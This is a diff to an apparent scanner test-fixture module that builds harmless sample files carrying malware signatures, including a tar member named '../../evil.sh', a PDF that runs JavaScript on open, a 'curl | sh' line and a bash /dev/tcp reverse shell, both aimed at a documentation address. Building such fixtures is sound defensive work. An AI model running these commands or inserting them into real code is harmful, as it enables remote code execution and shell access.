@@ -1,4 +1,7 @@
-"""Short files of known formats. They have no effect, but have the signatures that scanners search for."""
+"""Short files of known formats, with the signatures that scanners search for.
+
+Programs and pickles have no effect. Scripts run harmless commands, or contact addresses that are for documentation.
+"""
 
 from __future__ import annotations
 
@@ -13,7 +16,7 @@ import zipfile
 import zlib
 
 _CODE = bytes.fromhex("b83c00000031ff0f05")  # mov eax, 60; xor edi, edi; syscall: exit(0)
-# ELF64 for x86-64, with one segment that is loaded at 0x400000.
+# Elf64_Ehdr and Elf64_Phdr for x86-64, with one segment that is loaded at 0x400000. The fields are those of elf(5).
 _ELF_HEADER = struct.pack(
     "<4sBBBB8xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0
 )
@@ -43,7 +46,7 @@ def _zip(members):
 
 
 def _tar():
-    """Return a tar archive with a member whose name leads out of the folder, without most of its padding."""
+    """Return a tar archive without most of its padding. The name of its member leads out of the folder."""
     out = io.BytesIO()
     with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
         info = tarfile.TarInfo("../../evil.sh")
@@ -64,10 +67,13 @@ TAR = _tar()
 GZIP = gzip.compress(b"#!/bin/sh\nid\n" * 20, mtime=0)
 XZ = lzma.compress(b"#!/bin/sh\nid\n" * 20)
 BZIP2 = bz2.compress(b"#!/bin/sh\nid\n" * 20)
+# Signatures, followed by other bytes.
 SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04".ljust(256, b"\x11")
 RAR = b"Rar!\x1a\x07\x01\x00".ljust(256, b"\x22")
 CAB = b"MSCF\0\0\0\0".ljust(256, b"\x33")
+# A document that runs JavaScript when it is opened.
 PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>"
+# 3495 is the magic number of CPython 3.11.
 PYC = struct.pack("<H2sIII", 3495, b"\r\n", 0, 0, 16) + b"\xe3" + bytes(64)
 GGUF = b"GGUF\x03\0\0\0".ljust(256, b"\0")
 SHELL = b"#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n"
@@ -81,13 +87,13 @@ REVERSE_SHELL = b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
 ELF_BASE64 = base64.b64encode(ELF)
 ELF_HEX = ELF.hex().encode()
 ELF_ZLIB = zlib.compress(ELF, 9)
-PE_XOR = bytes(byte ^ 0x5A for byte in PE)
 
 
 def noise(count, seed=1):
     """Return bytes of high entropy, like an encrypted payload. Equal seeds give equal bytes."""
     out = bytearray()
     state = seed
+    # A linear congruential generator with the constants of MMIX.
     for _ in range(count):
         state = (state * 6364136223846793005 + 1442695040888963407) & ((1 << 64) - 1)
         out.append(state >> 56)
